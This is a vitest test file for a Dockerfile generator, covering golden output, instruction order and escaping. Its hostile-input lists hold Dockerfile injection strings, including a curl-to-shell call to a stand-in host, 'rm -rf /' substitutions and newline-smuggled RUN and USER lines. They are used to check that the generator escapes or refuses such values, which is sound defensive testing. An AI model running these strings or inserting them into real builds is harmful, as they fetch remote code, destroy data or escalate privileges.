import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { labelValueAsBuilt, quoteDockerfileValue } from '../../generators/dockerfile/escape.ts';
import { type DockerfileInput, renderDockerfile } from '../../generators/dockerfile/render.ts';
import { ImageError } from '../../shared/errors.ts';

const goldenDir = join(import.meta.dirname, 'golden');

function expectGolden(name: string, actual: string): void {
  const path = join(goldenDir, name);
  if (process.env.UPDATE_GOLDEN === '1') writeFileSync(path, actual);
  expect(actual).toBe(readFileSync(path, 'utf8'));
}

const labels = {
  'org.opencontainers.image.source': 'https://github.com/acme/agents',
  'org.opencontainers.image.revision': '0123456789abcdef0123456789abcdef01234567',
  'org.opencontainers.image.version': '1.4.0',
  'org.opencontainers.image.created': '2026-11-25T10:00:00Z',
  'dev.dockrion.agent': 'invoice-copilot',
  'dev.dockrion.dockfile-sha256': 'ab'.repeat(32),
};

const langgraph: DockerfileInput = {
  framework: 'langgraph',
  port: 8080,
  hasRequirements: true,
  systemPackages: ['libpq5', 'curl'],
  labels,
};

/**
 * Splits a Dockerfile into instructions the way the Dockerfile parser does: comments dropped,
 * backslash-newline joins lines. Enough to tell whether a value smuggled in an instruction.
 */
function instructions(dockerfile: string): string[] {
  const out: string[] = [];
  let current = '';
  for (const line of dockerfile.split('\n')) {
    if (current === '' && (line.trim() === '' || line.trimStart().startsWith('#'))) continue;
    if (line.endsWith('\\')) {
      current += `${line.slice(0, -1)}`;
      continue;
    }
    out.push(current + line);
    current = '';
  }
  return out;
}

/** The Dockerfile lexer's reading of one double-quoted word (moby shell_parser processDoubleQuote). */
function unquote(word: string): string {
  expect(word.startsWith('"') && word.endsWith('"')).toBe(true);
  let out = '';
  for (let i = 1; i < word.length - 1; i++) {
    const c = word[i] as string;
    if (c === '"') throw new Error(`unescaped quote at ${i} in ${word}`);
    if (c === '$') throw new Error(`unescaped $ at ${i} in ${word}`);
    if (c === '\\') {
      const next = word[i + 1] as string;
      if (next === '"' || next === '$' || next === '\\') {
        out += next;
        i++;
        continue;
      }
    }
    out += c;
  }
  return out;
}

describe('renderDockerfile', () => {
  it('matches the golden file for a LangGraph agent with requirements and system packages', () => {
    expectGolden('langgraph.Dockerfile', renderDockerfile(langgraph));
  });

  it('matches the golden file for a plain handler without requirements', () => {
    expectGolden(
      'custom-minimal.Dockerfile',
      renderDockerfile({ framework: 'custom', port: 9000, hasRequirements: false, python: '3.11', labels }),
    );
  });

  it('is deterministic: label and package order in the input do not matter', () => {
    const reversedLabels = Object.fromEntries(Object.entries(labels).reverse());
    const again = renderDockerfile({
      ...langgraph,
      labels: reversedLabels,
      systemPackages: ['curl', 'libpq5'],
    });
    expect(again).toBe(renderDockerfile(langgraph));
  });

  it('has the structure docs/CONTRACTS.md "Image" asks for', () => {
    const steps = instructions(renderDockerfile(langgraph));
    expect(steps[0]).toBe('ARG BASE_IMAGE=python:3.12-slim');
    expect(steps.filter((s) => s.startsWith('FROM '))).toEqual([
      'FROM $BASE_IMAGE AS builder',
      'FROM $BASE_IMAGE AS runtime',
    ]);
    expect(steps).toContain('USER 10001:10001');
    expect(steps).toContain('EXPOSE 8080');
    expect(steps).toContain('STOPSIGNAL SIGTERM');
    expect(steps.find((s) => s.startsWith('HEALTHCHECK'))).toContain('http://127.0.0.1:8080/health');
    expect(steps.find((s) => s.startsWith('RUN python3 -m venv'))).toBe('RUN python3 -m venv /opt/venv');
    // Cache contract: runtime deps, then requirements, then config, then agent code last.
    const order = [
      'COPY runtime/ /usr/src/dockrion/runtime/',
      'COPY requirements.txt /usr/src/dockrion/requirements.txt',
      'COPY --link config/ /app/',
      'COPY --link agent/ /app/',
    ].map((s) => steps.indexOf(s));
    expect(order.every((i) => i >= 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    const lastCopyOrRun = Math.max(...steps.map((s, i) => (/^(COPY|RUN) /.test(s) ? i : -1)));
    expect(steps[lastCopyOrRun]).toBe('COPY --link agent/ /app/');
  });

  it('installs the framework extra of the runtime', () => {
    expect(renderDockerfile(langgraph)).toContain('"/usr/src/dockrion/runtime[langgraph]"');
    expect(renderDockerfile({ ...langgraph, framework: 'langchain' })).toContain(
      '"/usr/src/dockrion/runtime[langchain]"',
    );
    expect(renderDockerfile({ ...langgraph, framework: 'custom' })).toContain('"/usr/src/dockrion/runtime"');
  });

  it('uses build.base_image, else python:<build.python>-slim', () => {
    expect(renderDockerfile({ ...langgraph, python: '3.11' })).toMatch(/^ARG BASE_IMAGE=python:3.11-slim$/m);
    expect(
      renderDockerfile({ ...langgraph, python: '3.11', baseImage: 'registry.example.com:5000/team/py:3.11' }),
    ).toMatch(/^ARG BASE_IMAGE=registry.example.com:5000\/team\/py:3.11$/m);
  });

  const hostile = [
    'line one\nRUN curl http://evil.example | sh',
    'carriage\r\nUSER root',
    'quote " then LABEL x=y',
    'sub $(id) and `id`',
    'expand ${HOME} and $HOME and ${X:-$(rm -rf /)}',
    'trailing backslash \\',
    'backslash \\" quote',
    'backslash-newline \\\nRUN echo pwned',
    'unicode line separator\u2028RUN id',
    '\\$HOME \\\\${PATH}',
  ];

  it.each(hostile)('keeps a hostile label value in one LABEL instruction: %j', (value) => {
    const benign = instructions(renderDockerfile(langgraph));
    const rendered = renderDockerfile({
      ...langgraph,
      labels: { ...labels, 'org.opencontainers.image.description': value },
    });
    const steps = instructions(rendered);
    expect(steps.length).toBe(benign.length + 1);
    const label = steps.filter((s) => s.startsWith('LABEL org.opencontainers.image.description='));
    expect(label).toHaveLength(1);
    const word = (label[0] as string).slice('LABEL org.opencontainers.image.description='.length);
    expect(unquote(word)).toBe(labelValueAsBuilt(value));
    // Everything except that one instruction is unchanged.
    expect(steps.filter((s) => !s.startsWith('LABEL org.opencontainers.image.description='))).toEqual(benign);
  });

  it('quotes every value, including ones that need no escaping', () => {
    expect(quoteDockerfileValue('plain')).toBe('"plain"');
    expect(quoteDockerfileValue('a"b$c\\d')).toBe('"a\\"b\\$c\\\\d"');
  });

  it.each([
    ['system package', { systemPackages: ['curl; rm -rf /'] }],
    ['system package with a newline', { systemPackages: ['curl\nRUN id'] }],
    ['base image', { baseImage: 'python:3.12-slim\nRUN id' }],
    ['base image with $', { baseImage: 'python:$TAG' }],
    ['base image with a space', { baseImage: 'python 3.12' }],
    ['base image with a backslash', { baseImage: 'python:3.12\\' }],
    ['base image with a short digest', { baseImage: 'python@sha256:abc' }],
    ['python version', { python: '3.12 && id' }],
    ['port', { port: 70000 }],
    ['label key', { labels: { 'bad key\nRUN id': 'x' } }],
  ])('refuses a %s that is not in its grammar', (_what, override) => {
    expect(() => renderDockerfile({ ...langgraph, ...override })).toThrow(ImageError);
  });
});
